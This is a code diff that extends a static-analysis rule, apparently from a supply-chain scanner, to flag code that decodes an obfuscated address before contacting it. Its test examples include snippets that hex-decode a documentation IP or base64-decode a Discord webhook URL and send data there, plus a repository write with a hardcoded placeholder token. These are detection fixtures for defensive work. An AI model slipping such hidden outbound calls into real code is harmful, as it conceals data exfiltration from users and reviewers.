@@ -1,4 +1,6 @@
-import { defineRule, oddTargetOf, sinkSays, step } from '../src/define.js';
+import { defineRule, oddTargetOf, sinkSays, step, stepsOf } from '../src/define.js';
+import type { FileContext } from '../src/types.js';
+import { hostOf, oddAddress } from '../src/vocabulary/services.js';
 
 /** Where a repository, a note or a thread is written to. */
 const WRITES_TO =
@@ -14,8 +16,10 @@ export default defineRule({
     messages: {
       token: 'Writes to a repository or a note with a token that stands in its code',
       contacted: 'Contacts {address}, fixed in its code',
+      hidden: 'Decodes the address that it contacts: {address}',
     },
-    bits: { token: 11.5, contacted: 4 },
+    behaviours: { hidden: 'obfuscation' },
+    bits: { token: 11.5, contacted: 4, hidden: 6 },
   },
   examples: {
     flags: [
@@ -28,8 +32,24 @@ export default defineRule({
         title: 'a file goes into somebody’s repository',
         code: `fetch('https://api.github.com/repos/a/b/contents/' + Date.now(), { method: 'PUT', headers: { Authorization: 'token ghp_000000000000000000000000000000000000' }, body: JSON.stringify({ content }) });`,
       },
+      {
+        title: 'an address that is not to be read in the code comes out of hex digits',
+        code: `const http = require('http');\nfunction tell(host, text) {\n  host = Buffer.from(host, 'hex').toString();\n  http.get({ host, path: '/' + text });\n}\ntell('3230332e302e3131332e39', 'up');`,
+      },
+      {
+        title: 'the address of a chat webhook stands there in base64',
+        code: `const to = atob('aHR0cHM6Ly9kaXNjb3JkLmNvbS9hcGkvd2ViaG9va3MvMS94');\nfetch(to, { method: 'POST', body: 'hi' });`,
+      },
     ],
     passes: [
+      {
+        title: 'what is sent to the own service was encoded',
+        code: `fetch('https://api.invalid/v1', { method: 'POST', body: Buffer.from('7b7d', 'hex').toString() });`,
+      },
+      {
+        title: 'an address of documentation is compared with, decoded, and never asked',
+        code: `const sample = Buffer.from('3230332e302e3131332e39', 'hex').toString();\nexports.isSample = host => host === sample;`,
+      },
       {
         title: 'the token of a repository is its user’s',
         code: `fetch('https://api.github.com/repos/a/b/contents/x', { method: 'PUT', headers: { Authorization: 'token ' + process.env.GITHUB_TOKEN }, body });`,
@@ -51,6 +71,15 @@ export default defineRule({
       }
       const address = oddTargetOf(context, call);
       if (!address) continue;
+      const decoded = texts.some(text => oddAddress(text) && !isWritten(context, text))
+        ? call.args.flatMap(arg => context.labelsOf(arg)).find(({ kind }) => kind === 'decoded')
+        : undefined;
+      if (decoded)
+        context.report({
+          messageId: 'hidden',
+          data: { address },
+          chain: [...stepsOf(decoded), step('sink', sinkSays(call), context.file, call.node)],
+        });
       context.report({
         messageId: 'contacted',
         data: { address },
@@ -60,3 +89,8 @@ export default defineRule({
     }
   },
 });
+
+/** True for an address that can be read in the file: what was decoded beside it is something else. */
+function isWritten({ file }: FileContext, address: string): boolean {
+  return file.text.includes(hostOf(address) ?? address);
+}
